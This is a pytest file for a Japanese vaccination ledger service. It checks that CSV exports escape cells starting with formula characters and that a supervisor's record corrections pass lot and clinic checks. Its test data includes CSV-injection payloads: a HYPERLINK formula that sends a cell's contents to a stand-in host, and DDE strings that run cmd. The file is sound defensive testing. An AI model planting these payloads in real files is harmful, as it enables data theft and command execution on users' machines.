"""Spreadsheet formulas stay text in every CSV the service writes (issue 14, item 3), and a
supervisor's correction of a lot or clinic code passes the checks a form's value passes.

A value that begins with =, +, -, @, a tab or a carriage return (a clinic's name from the
register import, a lot from an old record or another city) is written with a leading single
quote, as OWASP advises; the tests read the files back with the csv module, as a program
would, and check the cells."""

from __future__ import annotations

import csv
import io
import secrets
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import select

from ledger.kit.csv_cells import FORMULA_STARTS, escape_cell
from ledger.kit.identifiers import my_number_check_digit
from ledger.records.service import Dose, record_dose
from ledger.reports.endpoints import router as reports_router
from ledger.reports.programmes import DueRow
from ledger.reports.service import csv_chunks, write_csv
from ledger.residents import my_number
from ledger.transfers.peers import add_peer
from ledger.transfers.service import answer_bulk
from models import Clinic, LedgerRecord, Lot, Resident, Role
from models.db import session_scope
from tests.inprocess import client_as, make_user

FORMULAS = ("=HYPERLINK(\"//ev.example?\"&A1)", "+81-47-366-1111",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
"""One value for each start a spreadsheet may take for a formula."""
PEER = "121002"


@pytest.fixture(scope="module", autouse=True)
def csv_home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A ledger of these tests' own: the lot master and clinic list they load must not make
    the shared in-process database refute other tests' values."""
    from models.migrate import upgrade
    from yoshin.measure.harness import isolated_home

    home = tmp_path_factory.mktemp("csv-cells-home")
    with isolated_home(home):
        upgrade()
        yield home


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_every_formula_start_is_escaped_and_nothing_else() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    for value in FORMULAS:
        assert escape_cell(value) == "'" + value
    for value in ("FJ5929", "松戸 花子", "", "a=b", "1+1", " =1", "'=1"):
        assert escape_cell(value) == value
    for value in (3, 2024, date(2021, 6, 1), None):
        assert escape_cell(value) is value


def test_report_csv_escapes_every_formula_cell() -> None:
    rows = [DueRow(FORMULAS[2], FORMULAS[0], FORMULAS[1], date(1950, 1, 2), FORMULAS[3],
                   "influenza", "", 2, date(2021, 6, 1), None, None, FORMULAS[4]),
            DueRow("A1", "松戸 花子", "マツド ハナコ", date(1950, 1, 2), "松戸市", "influenza",
                   "", 1, date(2021, 4, 1), None, None, "due")]
    columns = ["atena_number", "name", "name_kana", "birth_date", "address", "dose",
               "earliest", "last", "status"]
    streamed = b"".join(csv_chunks(rows, columns)).decode("utf-8-sig")
    handle = io.BytesIO()
    assert write_csv(rows, columns, handle) == 2
    for text in (streamed, handle.getvalue().decode("utf-8-sig")):
        header, evil, plain = _cells(text)
        assert header == columns
        assert evil == ["'" + FORMULAS[2], "'" + FORMULAS[0], "'" + FORMULAS[1], "1950-01-02",
                        "'" + FORMULAS[3], "2", "2021-06-01", "", "'" + FORMULAS[4]]
        assert plain == ["A1", "松戸 花子", "マツド ハナコ", "1950-01-02", "松戸市", "1",
                         "2021-04-01", "", "due"]


def _resident(session, number: str | None = None) -> Resident:  # noqa: ANN001 - Session
    resident = Resident(atena_number=f"CSV{secrets.token_hex(4)}", name="表計 算子",
                        name_kana="ヒョウケイ サンコ", birth_date=date(1960, 1, 1), sex="F",
                        address="松戸市根本387-5",
                        my_number_hash=my_number.lookup_hash(number) if number else None,
                        my_number_encrypted=my_number.encrypt(number) if number else None)
    session.add(resident)
    session.flush()
    return resident


def test_claims_csv_escapes_a_clinic_name_from_the_register_import() -> None:
    code = f"99{secrets.randbelow(10**8):08d}"
    with session_scope() as session:
        session.add(Clinic(clinic_code=code, name=FORMULAS[0], doctors=[]))
        resident = _resident(session)
        record_dose(session, Dose(resident.id, "pfizer", 1, date(2011, 5, 9), "FJ5929", code),
                    source="scan", actor="test", user_id=None)
    app = FastAPI()
    app.include_router(reports_router)
    _, token = make_user(Role.SUPERVISOR)
    answer = TestClient(app, headers={"Authorization": f"Bearer {token}"}).get(
        "/api/reports/claims", params={"year": 2011, "month": 5, "format": "csv"})
    assert answer.status_code == 200, answer.text
    rows = _cells(answer.content.decode("utf-8-sig"))
    assert [code, "'" + FORMULAS[0], "pfizer", "covid19", "実費徴収", "1"] in rows


def test_bulk_transfer_results_escape_a_formula_lot() -> None:
    """A lot stored before lots were checked (or from a city that did not check) is passed
    on to the asking city as text."""
    body = f"{secrets.randbelow(10**11):011d}"
    number = body + str(my_number_check_digit(body))
    with session_scope() as session:
        resident = _resident(session, number)
        for dose, lot in enumerate(FORMULAS[:2], start=1):
            record_dose(session, Dose(resident.id, "pfizer", dose, date(2021, 6, dose), lot),
                        source="scan", actor="test", user_id=None)
        token = add_peer(session, code=PEER, url="https://chiba.example", actor="test")
    peer = TestClient(_app(), headers={"Authorization": f"Bearer {token}"})
    answer = peer.post("/api/transfer/bulk", data={"requester_code": PEER},
                       files={"numbers": ("n.csv", f"{number}\n".encode(), "text/csv")})
    assert answer.status_code == 202, answer.text
    bulk_id = answer.json()["id"]
    answer_bulk(bulk_id)  # what the worker does with the queued query
    results = peer.get(f"/api/transfer/bulk/{bulk_id}/results")
    assert results.status_code == 200, results.text
    rows = _cells(results.text)
    assert rows[1:] == [["1", "true", "pfizer", "1", "2021-06-01", "'" + FORMULAS[0]],
                        ["1", "true", "pfizer", "2", "2021-06-02", "'" + FORMULAS[1]]]


def _app() -> FastAPI:
    from yoshin.app import create_app

    return create_app()


def _record(clinic_code: str = "1234567890") -> int:
    with session_scope() as session:
        resident = _resident(session)
        record = record_dose(session, Dose(resident.id, "moderna", 1, date(2022, 3, 1),
                                           "3005236", clinic_code),
                             source="scan", actor="test", user_id=None)
        session.flush()
        return record.id


@pytest.mark.parametrize("change", [
    *({"lot_number": value} for value in FORMULAS if value.strip()),
    *({"clinic_code": value} for value in ("=1+1", "@SUM(A1)", "+8112345678", "-123456789",
                                           "１２３４５６７８９０", "12345", "")),
    {"lot_number": "fj5929"}, {"lot_number": "AB1"}, {"lot_number": "ABCDEFGHIJKLM"},
    {"vaccinated_on": (date.today() + timedelta(days=3)).isoformat()},
])
def test_a_correction_the_form_would_refuse_is_refused(change: dict[str, str]) -> None:
    record_id = _record()
    supervisor = client_as(Role.SUPERVISOR)
    answer = supervisor.patch(f"/api/records/{record_id}", json={**change, "reason": "照合"})
    assert answer.status_code == 422, answer.text
    detail = answer.json()["detail"]
    if isinstance(detail, str):  # ours, not the request model's length limit
        assert detail.startswith("the correction does not pass the form's checks: ")
        assert next(iter(change)) in detail
    with session_scope() as session:
        record = session.get(LedgerRecord, record_id)
        assert (record.version, record.lot_number, record.clinic_code) == (1, "3005236",
                                                                         "1234567890")


def test_a_correction_is_held_against_the_lot_master_and_the_clinic_list() -> None:
    record_id = _record()
    with session_scope() as session:
        if session.scalar(select(Lot).where(Lot.lot_number == "AS1028A")) is None:
            session.add(Lot(lot_number="AS1028A", vaccine="moderna", manufacturer="モデルナ"))
        session.add(Clinic(clinic_code="2222222222", name="みどり内科", doctors=[]))
    supervisor = client_as(Role.SUPERVISOR)

    unknown_lot = supervisor.patch(f"/api/records/{record_id}",
                                   json={"lot_number": "ZZ9999", "reason": "照合"})
    assert unknown_lot.status_code == 422
    assert "lot_number: ロット台帳にないロット番号です" in unknown_lot.json()["detail"]
    unknown_clinic = supervisor.patch(f"/api/records/{record_id}",
                                      json={"clinic_code": "3333333333", "reason": "照合"})
    assert unknown_clinic.status_code == 422
    assert "clinic_code: 委託医療機関の一覧にないコードです" in unknown_clinic.json()["detail"]

    answer = supervisor.patch(f"/api/records/{record_id}",
                              json={"lot_number": "AS1028A", "clinic_code": "2222222222",
                                    "vaccinated_on": "2022-03-02", "reason": "紙と照合"})
    assert answer.status_code == 200, answer.text
    assert (answer.json()["lot_number"], answer.json()["clinic_code"],
            answer.json()["version"]) == ("AS1028A", "2222222222", 2)
